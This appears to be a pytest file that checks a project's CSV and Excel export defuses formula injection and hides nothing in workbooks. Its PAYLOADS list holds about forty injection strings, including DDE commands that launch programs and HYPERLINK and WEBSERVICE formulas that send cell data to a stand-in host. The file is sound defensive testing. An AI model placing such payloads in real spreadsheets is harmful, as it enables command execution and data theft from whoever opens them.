"""Files that are taken out: no cell becomes a formula, nothing is hidden, and one that breaks off says so."""

import csv
import io
from collections.abc import Iterator

import openpyxl
import pytest

from goodwork.connectors.tables.cells import read_cell
from goodwork.connectors.tables.dates import DateOrder
from goodwork.vocabulary.tables import PEOPLE
from goodwork.web.components.downloads import BROKEN_OFF, csv_download, write_workbook, xlsx_download

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1,\"see\")", "=WEBSERVICE(\"http://x\")", "=IMPORTXML(\"http://x\",\"//a\")",
    "=IMPORTDATA(\"http://x\")", "=IMAGE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=10+20+cmd|' /C calc'!A0", "=EXEC(\"calc\")", "=CALL(\"a\",\"b\")",
    "=REGISTER.ID(\"a\",\"b\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @SUM(1)", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\x0b=1+1", "\x00=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "=1+1\",=2+2", "=\"a\"&\"b\"",
    "-2+3+cmd|' /C calc'!D2", "+447700900123", "-5", "@handle",
)  # fmt: skip


def lines(response: object) -> list[list[str]]:
    content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_forty_payloads_are_text_in_csv() -> None:
    assert len(PAYLOADS) >= 40
    rows = lines(csv_download("list", ["Name"], [[payload] for payload in PAYLOADS]))
    for row in rows[1:]:
        assert row[0].startswith("'"), row


@pytest.mark.parametrize(
    "payload", [p for p in PAYLOADS if p.strip("\ufeff\u200b\x00\x0b\u00a0 \t\r\n") == p]
)
def test_what_was_defused_comes_back_as_it_was(payload: str) -> None:
    ((_,), (cell,)) = lines(csv_download("list", ["Name"], [[payload]]))
    assert read_cell(PEOPLE.column("name"), cell, DateOrder.DAY_FIRST) == payload


def test_forty_payloads_are_text_in_a_workbook_with_nothing_hidden() -> None:
    file = io.BytesIO()
    write_workbook(file, ["Name"], [[payload] for payload in PAYLOADS])
    book = openpyxl.load_workbook(io.BytesIO(file.getvalue()))
    assert [sheet.sheet_state for sheet in book.worksheets] == ["visible"]
    assert not book.defined_names
    assert not book.properties.creator
    assert not book.properties.lastModifiedBy
    (sheet,) = book.worksheets
    assert not sheet._pivots
    assert not sheet.merged_cells.ranges
    for (cell,) in sheet.iter_rows():
        assert cell.data_type in "sn", cell.value
        assert cell.comment is None
        assert cell.hyperlink is None


def test_a_list_that_breaks_off_says_so() -> None:
    def rows() -> Iterator[list[str]]:
        yield ["first"]
        raise RuntimeError("the database went away")

    assert lines(csv_download("list", ["Name"], rows())) == [["Name"], ["first"], [BROKEN_OFF]]
    with pytest.raises(RuntimeError):
        xlsx_download("list", ["Name"], rows())
